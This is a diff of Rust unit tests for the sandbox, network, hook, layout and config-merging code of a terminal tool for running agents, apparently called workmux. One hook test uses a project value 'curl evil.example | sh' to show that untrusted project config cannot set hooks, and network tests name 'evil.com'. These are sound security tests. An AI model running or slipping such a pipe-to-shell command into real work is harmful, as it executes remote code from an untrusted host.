+        assert_eq!(SandboxRuntime::Podman.binary(), "podman");
+        assert_eq!(SandboxRuntime::Docker.binary(), "docker");
     }
 
     #[test]
     fn sandbox_runtime_detect_when_unset() {
-        let config = ContainerConfig { runtime: None };
+        let config = ContainerConfig {
+            runtime: None,
+            ..Default::default()
+        };
         // Should auto-detect from PATH; result depends on environment
         // but should not panic
-        let _runtime = config.runtime();
+        assert!(config.runtime().is_ok());
     }
 
     #[test]
@@ -1921,6 +3073,7 @@ mod tests {
                 enabled: Some(true),
                 container: ContainerConfig {
                     runtime: Some(SandboxRuntime::Docker),
+                    ..Default::default()
                 },
                 image: Some("global-image".to_string()),
                 ..Default::default()
@@ -1932,6 +3085,7 @@ mod tests {
                 image: Some("project-image".to_string()),
                 container: ContainerConfig {
                     runtime: Some(SandboxRuntime::Podman),
+                    ..Default::default()
                 },
                 ..Default::default()
             },
@@ -1941,7 +3095,7 @@ mod tests {
         let merged = global.merge(project);
         assert!(merged.sandbox.is_enabled()); // from global
         assert_eq!(merged.sandbox.resolved_image("claude"), "global-image"); // image is global-only
-        assert_eq!(merged.sandbox.runtime(), SandboxRuntime::Podman); // from project
+        assert_eq!(merged.sandbox.runtime().unwrap(), SandboxRuntime::Podman); // from project
     }
 
     #[test]
@@ -2043,6 +3197,51 @@ mod tests {
         assert!(merged.sandbox.lima.skip_default_provision());
     }
 
+    #[test]
+    fn sandbox_lima_mount_type_parse_and_merge() {
+        let global: Config = serde_yaml::from_str(
+            r#"
+sandbox:
+  lima:
+    mount_type: reverse-sshfs
+"#,
+        )
+        .unwrap();
+        assert_eq!(
+            global.sandbox.lima.mount_type,
+            Some(super::LimaMountType::ReverseSshfs)
+        );
+
+        let project: Config =
+            serde_yaml::from_str("sandbox:\n  lima:\n    mount_type: 9p\n").unwrap();
+        let merged = global.merge(project);
+        assert_eq!(
+            merged.sandbox.lima.mount_type,
+            Some(super::LimaMountType::NineP)
+        );
+        assert_eq!(super::LimaMountType::NineP.as_str(), "9p");
+
+        assert!(
+            serde_yaml::from_str::<Config>("sandbox:\n  lima:\n    mount_type: nfs\n").is_err()
+        );
+    }
+
+    #[test]
+    fn sandbox_lima_stop_vm_on_exit_defaults_by_isolation() {
+        let lima = super::LimaConfig::default();
+        assert!(lima.stop_vm_on_exit(&super::IsolationLevel::Project));
+        assert!(!lima.stop_vm_on_exit(&super::IsolationLevel::Shared));
+
+        let config: Config =
+            serde_yaml::from_str("sandbox:\n  lima:\n    stop_vm_on_exit: false\n").unwrap();
+        assert!(
+            !config
+                .sandbox
+                .lima
+                .stop_vm_on_exit(&super::IsolationLevel::Project)
+        );
+    }
+
     #[test]
     fn sandbox_skip_default_provision_project_overrides() {
         let global = Config {
@@ -2088,7 +3287,7 @@ mod tests {
             rpc_host: Some("custom.host.local".to_string()),
             ..Default::default()
         };
-        assert_eq!(config.resolved_rpc_host(), "custom.host.local");
+        assert_eq!(config.resolved_rpc_host().unwrap(), "custom.host.local");
     }
 
     #[test]
@@ -2096,10 +3295,14 @@ mod tests {
         let config = SandboxConfig {
             container: ContainerConfig {
                 runtime: Some(SandboxRuntime::Podman),
+                ..Default::default()
             },
             ..Default::default()
         };
-        assert_eq!(config.resolved_rpc_host(), "host.containers.internal");
+        assert_eq!(
+            config.resolved_rpc_host().unwrap(),
+            "host.containers.internal"
+        );
     }
 
     #[test]
@@ -2247,6 +3450,30 @@ mod tests {
         assert!(!merged.sandbox.allow_unsandboxed_host_exec());
     }
 
+    #[test]
+    fn test_git_credentials_defaults_true_and_is_global_only() {
+        assert!(SandboxConfig::default().git_credentials());
+
+        let global = Config {
+            sandbox: SandboxConfig {
+                git_credentials: Some(false),
+                ..Default::default()
+            },
+            ..Default::default()
+        };
+        // Project tries to re-enable it -- should be ignored
+        let project = Config {
+            sandbox: SandboxConfig {
+                git_credentials: Some(true),
+                ..Default::default()
+            },
+            ..Default::default()
+        };
+
+        let merged = global.merge(project);
+        assert!(!merged.sandbox.git_credentials());
+    }
+
     #[test]
     fn test_sandbox_rpc_host_global_only() {
         // Project config is ignored -- only global matters
@@ -2436,6 +3663,49 @@ extra_mounts:
         assert!(!read_only);
     }
 
+    #[test]
+    fn test_extra_mount_parse_host_target_string() {
+        let yaml = r#"
+extra_mounts:
+  - /tmp/registry:/cargo/registry:ro
+  - /tmp/cache:/tmp/cache:rw
+  - /tmp/data:/mnt/data
+  - /tmp/scratch:rw
+"#;
+        let config: SandboxConfig = serde_yaml::from_str(yaml).unwrap();
+        let resolved: Vec<_> = config
+            .extra_mounts()
+            .iter()
+            .map(|m| m.resolve().unwrap())
+            .collect();
+        let path = std::path::PathBuf::from;
+        assert_eq!(
+            resolved,
+            vec![
+                (path("/tmp/registry"), path("/cargo/registry"), true),
+                (path("/tmp/cache"), path("/tmp/cache"), false),
+                // Read-only unless :rw is given
+                (path("/tmp/data"), path("/mnt/data"), true),
+                (path("/tmp/scratch"), path("/tmp/scratch"), false),
+            ]
+        );
+    }
+
+    #[test]
+    fn test_extra_mount_parse_string_errors() {
+        let err = ExtraMount::Path("/a:/b:rx".to_string())
+            .resolve()
+            .unwrap_err();
+        assert!(err.to_string().contains("unknown mode 'rx'"));
+        assert!(
+            ExtraMount::Path("/a:/b:ro:x".to_string())
+                .resolve()
+                .is_err()
+        );
+        // Relative target
+        assert!(ExtraMount::Path("/a:b".to_string()).resolve().is_err());
+    }
+
     #[test]
     fn test_extra_mount_spec_defaults() {
         let yaml = r#"
@@ -2670,7 +3940,7 @@ container:
         assert_eq!(config.lima.isolation(), super::IsolationLevel::Shared);
         assert_eq!(config.lima.cpus(), 16);
         assert_eq!(config.lima.memory(), "16GiB");
-        assert_eq!(config.container.runtime(), SandboxRuntime::Podman);
+        assert_eq!(config.container.runtime().unwrap(), SandboxRuntime::Podman);
     }
 
     #[test]
@@ -2700,13 +3970,59 @@ container:
     fn sandbox_container_config_merge() {
         let global = ContainerConfig {
             runtime: Some(SandboxRuntime::Docker),
+            ..Default::default()
         };
         let project = ContainerConfig {
             runtime: Some(SandboxRuntime::Podman),
+            ..Default::default()
         };
 
         let merged = ContainerConfig::merge(global, project);
-        assert_eq!(merged.runtime(), SandboxRuntime::Podman);
+        assert_eq!(merged.runtime().unwrap(), SandboxRuntime::Podman);
+    }
+
+    #[test]
+    fn sandbox_container_resource_limits_validate() {
+        let limits = |cpus: Option<&str>, memory: Option<&str>| ContainerConfig {
+            cpus: cpus.map(str::to_string),
+            memory: memory.map(str::to_string),
+            ..Default::default()
+        };
+
+        assert!(limits(None, None).validate().is_ok());
+        for cpus in ["2", "0.5", "1.5"] {
+            assert!(limits(Some(cpus), None).validate().is_ok(), "{cpus}");
+        }
+        for memory in [
+            "512m",
+            "4g",
+            "4G",
+            "1073741824",
+            "100k",
+            "1024b",
+            "4gb",
+            "1.5g",
+            "4GiB",
+            "2t",
+            "4 g",
+            "512MB",
+        ] {
+            assert!(limits(None, Some(memory)).validate().is_ok(), "{memory}");
+        }
+
+        for cpus in ["0", "-1", "two", "", "inf", "NaN"] {
+            let err = limits(Some(cpus), None).validate().unwrap_err();
+            assert!(err.to_string().contains("sandbox.container.cpus"), "{cpus}");
+        }
+        for memory in [
+            "g", "", "0", "0.0g", "-1m", "1.g", ".5g", "1.2.3g", "4x", "4gbb", "4  g",
+        ] {
+            let err = limits(None, Some(memory)).validate().unwrap_err();
+            assert!(
+                err.to_string().contains("sandbox.container.memory"),
+                "{memory}"
+            );
+        }
     }
 
     // --- Network config tests ---
@@ -2744,6 +4060,7 @@ container:
                 network: NetworkConfig {
                     policy: Some(NetworkPolicy::Deny),
                     allowed_domains: Some(vec!["api.anthropic.com".to_string()]),
+                    mode: None,
                 },
                 ..Default::default()
             },
@@ -2754,6 +4071,7 @@ container:
                 network: NetworkConfig {
                     policy: Some(NetworkPolicy::Allow),
                     allowed_domains: Some(vec!["evil.com".to_string()]),
+                    mode: None,
                 },
                 ..Default::default()
             },
@@ -2777,6 +4095,7 @@ container:
                 network: NetworkConfig {
                     policy: Some(NetworkPolicy::Deny),
                     allowed_domains: Some(vec!["evil.com".to_string()]),
+                    mode: None,
                 },
                 ..Default::default()
             },
@@ -2795,6 +4114,7 @@ container:
                 network: NetworkConfig {
                     policy: Some(NetworkPolicy::Deny),
                     allowed_domains: Some(vec!["github.com".to_string()]),
+                    mode: None,
                 },
                 ..Default::default()
             },
@@ -2846,6 +4166,7 @@ container:
         let config = NetworkConfig {
             policy: Some(NetworkPolicy::Deny),
             allowed_domains: Some(vec!["good.com".to_string(), "192.168.1.1".to_string()]),
+            mode: None,
         };
         assert!(config.validate().is_err());
     }
@@ -2859,6 +4180,7 @@ container:
                 "*.github.com".to_string(),
                 "registry.npmjs.org".to_string(),
             ]),
+            mode: None,
         };
         assert!(config.validate().is_ok());
     }
@@ -2959,6 +4281,7 @@ windows:
                     size: None,
                     percentage: None,
                     target: None,
+                    cwd: None,
                 }]),
             },
             WindowConfig {
@@ -2970,6 +4293,7 @@ windows:
                     size: None,
                     percentage: None,
                     target: None,
+                    cwd: None,
                 }]),
             },
         ];
@@ -2987,6 +4311,7 @@ windows:
                 size: None,
                 percentage: None,
                 target: None,
+                cwd: None,
             }]),
         }];
         let result = validate_windows_config(&windows);
@@ -3004,6 +4329,7 @@ windows:
                 size: None,
                 percentage: None,
                 target: None,
+                cwd: None,
             }]),
             ..Default::default()
         };
@@ -3045,6 +4371,7 @@ windows:
                 size: None,
                 percentage: None,
                 target: None,
+                cwd: None,
             }]),
             ..Default::default()
         };
@@ -3070,4 +4397,389 @@ windows:
         assert!(merged.windows.is_some());
         assert!(merged.panes.is_none());
     }
+
+    #[test]
+    fn last_done_window_parses_and_merges() {
+        assert_eq!(Config::default().last_done_window().unwrap(), None);
+
+        let global = Config {
+            last_done_window: Some("1d".to_string()),
+            ..Default::default()
+        };
+        let project = Config {
+            last_done_window: Some("30m".to_string()),
+            ..Default::default()
+        };
+        let merged = global.merge(project);
+        assert_eq!(
+            merged.last_done_window().unwrap(),
+            Some(std::time::Duration::from_secs(30 * 60))
+        );
+
+        let invalid = Config {
+            last_done_window: Some("soon".to_string()),
+            ..Default::default()
+        };
+        let err = invalid.last_done_window().unwrap_err();
+        assert!(err.to_string().contains("last_done_window"));
+    }
+
+    #[test]
+    fn hooks_global_only_and_skip_empty() {
+        let global = Config {
+            hooks: HooksConfig {
+                on_done: Some("notify-done".to_string()),
+                on_working: Some("  ".to_string()),
+                ..Default::default()
+            },
+            ..Default::default()
+        };
+        let project = Config {
+            hooks: HooksConfig {
+                on_done: Some("./scripts/done.sh".to_string()),
+                on_waiting: Some("curl evil.example | sh".to_string()),
+                ..Default::default()
+            },
+            ..Default::default()
+        };
+
+        let merged = global.merge(project);
+        assert_eq!(
+            merged.hooks.for_status(AgentStatus::Done),
+            Some("notify-done")
+        );
+        assert_eq!(merged.hooks.for_status(AgentStatus::Waiting), None);
+        assert_eq!(merged.hooks.for_status(AgentStatus::Working), None);
+    }
+
+    fn layouts_config(yaml: &str) -> Config {
+        serde_yaml::from_str(yaml).unwrap()
+    }
+
+    #[test]
+    fn apply_layout_replaces_panes() {
+        let mut config = layouts_config(
+            r#"
+panes:
+  - command: vim
+layouts:
+  three-pane:
+    split: horizontal
+    panes:
+      - command: <agent>
+        focus: true
+        percentage: 60
+      - split: vertical
+        panes:
+          - command: tail -f log
+          - {}
+"#,
+        );
+        config.apply_layout("three-pane").unwrap();
+        let panes = config.panes.unwrap();
+        assert_eq!(panes.len(), 3);
+        assert_eq!(panes[0].command.as_deref(), Some("<agent>"));
+        assert!(panes[0].focus);
+        assert_eq!(panes[1].split, Some(super::SplitDirection::Horizontal));
+        assert_eq!((panes[1].target, panes[1].percentage), (Some(0), Some(40)));
+        assert_eq!(panes[1].command.as_deref(), Some("tail -f log"));
+        assert_eq!(panes[2].split, Some(super::SplitDirection::Vertical));
+        assert_eq!((panes[2].target, panes[2].percentage), (Some(1), Some(50)));
+        assert_eq!(panes[2].command, None);
+    }
+
+    #[test]
+    fn layout_splits_take_a_share_of_what_is_left() {
+        let layout: super::LayoutConfig = serde_yaml::from_str(
+            "split: vertical
+panes: [{}, {}, {}, {percentage: 40}]
+",
+        )
+        .unwrap();
+        let panes = layout.to_panes();
+        // 20/20/20/40: each split cuts the rest from the pane before it
+        let cuts: Vec<_> = panes[1..]
+            .iter()
+            .map(|p| (p.target, p.percentage))
+            .collect();
+        assert_eq!(
+            cuts,
+            vec![
+                (Some(0), Some(80)),
+                (Some(1), Some(75)),
+                (Some(2), Some(67))
+            ]
+        );
+    }
+
+    #[test]
+    fn apply_layout_unknown_lists_available() {
+        let mut config = layouts_config("layouts:\n  solo:\n    command: vim\n");
+        let err = config.apply_layout("missing").unwrap_err().to_string();
+        assert!(err.contains("Available layouts: solo"), "{err}");
+        assert!(
+            Config::default()
+                .apply_layout("missing")
+                .unwrap_err()
+                .to_string()
+                .contains("No layouts")
+        );
+    }
+
+    #[test]
+    fn validate_layout_checks_split_percentages() {
+        let config = layouts_config(
+            r#"
+layouts:
+  ok:
+    split: horizontal
+    panes:
+      - percentage: 60
+      - split: vertical
+        panes: [{}, {}]
+  short:
+    split: horizontal
+    panes:
+      - percentage: 60
+      - percentage: 30
+  full:
+    split: horizontal
+    panes:
+      - percentage: 60
+      - percentage: 40
+      - {}
+  no-direction:
+    panes: [{}, {}]
+  single:
+    split: vertical
+    panes: [{}]
+"#,
+        );
+        let layouts = config.layouts.unwrap();
+        let err = |name: &str| {
+            super::validate_layout(name, &layouts[name])
+                .unwrap_err()
+                .to_string()
+        };
+        assert!(super::validate_layout("ok", &layouts["ok"]).is_ok());
+        assert!(err("short").contains("add up to 90%"), "{}", err("short"));
+        assert!(
+            err("full").contains("nothing for the rest"),
+            "{}",
+            err("full")
+        );
+        assert!(err("no-direction").contains("needs 'split'"));
+        assert!(err("single").contains("at least two panes"));
+    }
+
+    #[test]
+    fn layouts_merge_by_name() {
+        let global = layouts_config("layouts:\n  a:\n    command: vim\n  b:\n    command: htop\n");
+        let project = layouts_config("layouts:\n  b:\n    command: top\n");
+        let layouts = global.merge(project).layouts.unwrap();
+        assert_eq!(layouts.len(), 2);
+        assert_eq!(layouts["b"].command.as_deref(), Some("top"));
+    }
+
+    #[test]
+    fn status_icon_theme_fills_unset_icons() {
+        let config: Config =
+            serde_yaml::from_str("status_icon_theme: ascii\nstatus_icons:\n  done: \"ok\"\n")
+                .unwrap();
+        let icons = config.status_icons();
+        assert_eq!(icons.working(), "*");
+        assert_eq!(icons.waiting(), "?");
+        assert_eq!(icons.done(), "ok");
+
+        let default_icons = Config::default().status_icons();
+        assert_eq!(default_icons.working(), "🤖");
+    }
+
+    #[test]
+    fn status_icon_theme_merges_and_overrides_from_env() {
+        let global: Config = serde_yaml::from_str("status_icon_theme: nerdfont\n").unwrap();
+        let mut merged = global.merge(Config::default());
+        assert_eq!(
+            merged.status_icon_theme,
+            Some(super::StatusIconTheme::Nerdfont)
+        );
+
+        merged
+            .apply_overrides(|var| (var == "WORKMUX_STATUS_ICON_THEME").then(|| "ascii".into()))
+            .unwrap();
+        assert_eq!(
+            merged.status_icon_theme,
+            Some(super::StatusIconTheme::Ascii)
+        );
+        assert!(
+            merged
+                .apply_overrides(|var| (var == "WORKMUX_STATUS_ICON_THEME").then(|| "bogus".into()))
+                .is_err()
+        );
+    }
+
+    const ROUND_TRIP_YAML: &str = r#"
+agent: codex
+merge_strategy: rebase
+status_icons:
+  done: "🎉"
+panes:
+  - command: <agent>
+    focus: true
+  - split: horizontal
+    size: 10
+post_create:
+  - npm install
+sandbox:
+  enabled: true
+  lima:
+    isolation: shared
+    projects_dir: /Users/me/code
+"#;
+
+    const ROUND_TRIP_TOML: &str = r#"
+agent = "codex"
+merge_strategy = "rebase"
+post_create = ["npm install"]
+
+[status_icons]
+done = "🎉"
+
+[[panes]]
+command = "<agent>"
+focus = true
+
+[[panes]]
+split = "horizontal"
+size = 10
+
+[sandbox]
+enabled = true
+
+[sandbox.lima]
+isolation = "shared"
+projects_dir = "/Users/me/code"
+"#;
+
+    fn as_json(config: &Config) -> serde_json::Value {
+        serde_json::to_value(config).unwrap()
+    }
+
+    #[test]
+    fn config_format_from_extension() {
+        use super::ConfigFormat;
+        use std::path::Path;
+        assert_eq!(
+            ConfigFormat::from_path(Path::new(".workmux.toml")),
+            ConfigFormat::Toml
+        );
+        assert_eq!(
+            ConfigFormat::from_path(Path::new(".workmux.yml")),
+            ConfigFormat::Yaml
+        );
+        assert_eq!(
+            ConfigFormat::from_path(Path::new("config.yaml")),
+            ConfigFormat::Yaml
+        );
+    }
+
+    #[test]
+    fn toml_and_yaml_parse_to_the_same_config() {
+        use super::ConfigFormat;
+        let yaml = ConfigFormat::Yaml.parse(ROUND_TRIP_YAML).unwrap();
+        let toml = ConfigFormat::Toml.parse(ROUND_TRIP_TOML).unwrap();
+        assert_eq!(as_json(&yaml), as_json(&toml));
+        assert_eq!(toml.agent.as_deref(), Some("codex"));
+        assert_eq!(toml.panes.as_ref().unwrap().len(), 2);
+        assert_eq!(toml.sandbox.lima.isolation(), super::IsolationLevel::Shared);
+    }
+
+    #[test]
+    fn config_round_trips_through_both_formats() {
+        use super::ConfigFormat;
+        let original = ConfigFormat::Yaml.parse(ROUND_TRIP_YAML).unwrap();
+        let via_toml = ConfigFormat::Toml
+            .parse(&toml::to_string(&original).unwrap())
+            .unwrap();
+        let via_yaml = ConfigFormat::Yaml
+            .parse(&serde_yaml::to_string(&via_toml).unwrap())
+            .unwrap();
+        assert_eq!(as_json(&original), as_json(&via_toml));
+        assert_eq!(as_json(&original), as_json(&via_yaml));
+    }
+
+    #[test]
+    fn load_from_path_picks_format_by_extension() {
+        let dir = tempfile::tempdir().unwrap();
+        let toml_path = dir.path().join(".workmux.toml");
+        std::fs::write(&toml_path, ROUND_TRIP_TOML).unwrap();
+        let config = Config::load_from_path(&toml_path).unwrap().unwrap();
+        assert_eq!(config.agent.as_deref(), Some("codex"));
+
+        // YAML content in a .toml file is a parse error naming the file
+        std::fs::write(&toml_path, ROUND_TRIP_YAML).unwrap();
+        let err = Config::load_from_path(&toml_path).unwrap_err().to_string();
+        assert!(err.contains(".workmux.toml"), "{err}");
+    }
+
+    fn with_env(config: &mut Config, vars: &[(&str, &str)]) -> anyhow::Result<()> {
+        let vars: std::collections::HashMap<String, String> = vars
+            .iter()
+            .map(|(k, v)| (k.to_string(), v.to_string()))
+            .collect();
+        config.apply_overrides(|var| vars.get(var).cloned())
+    }
+
+    #[test]
+    fn env_overrides_win_over_file_config() {
+        let mut config: Config = serde_yaml::from_str(
+            "window_prefix: file-\nmultiplexer: tmux\nsandbox:\n  enabled: false\n",
+        )
+        .unwrap();
+        with_env(
+            &mut config,
+            &[
+                ("WORKMUX_WINDOW_PREFIX", "ci-"),
+                ("WORKMUX_SANDBOX_ENABLED", "true"),
+                ("WORKMUX_MODE", "session"),
+                ("WORKMUX_HANDSHAKE_TIMEOUT", "30"),
+            ],
+        )
+        .unwrap();
+        assert_eq!(config.window_prefix(), "ci-");
+        assert!(config.sandbox.is_enabled());
+        assert_eq!(config.mode(), super::MuxMode::Session);
+        assert_eq!(config.handshake_timeout().as_secs(), 30);
+    }
+
+    #[test]
+    fn env_overrides_skip_unset_and_empty_vars() {
+        let mut config: Config = serde_yaml::from_str("window_prefix: file-\n").unwrap();
+        with_env(&mut config, &[("WORKMUX_WINDOW_PREFIX", "  ")]).unwrap();
+        assert_eq!(config.window_prefix(), "file-");
+        assert_eq!(config.sandbox.enabled, None);
+    }
+
+    #[test]
+    fn env_override_with_invalid_value_names_the_variable() {
+        let mut config = Config::default();
+        let err = with_env(&mut config, &[("WORKMUX_SANDBOX_ENABLED", "maybe")])
+            .unwrap_err()
+            .to_string();
+        assert!(err.contains("WORKMUX_SANDBOX_ENABLED"), "{err}");
+    }
+
+    #[test]
+    fn env_override_table_keys_are_all_handled() {
+        for (var, key) in super::ENV_OVERRIDES {
+            let err = Config::default()
+                .set_override(key, "")
+                .err()
+                .map(|e| e.to_string());
+            assert!(
+                !err.is_some_and(|e| e.contains("unknown config key")),
+                "{var} maps to unhandled key {key}"
+            );
+        }
+    }
 }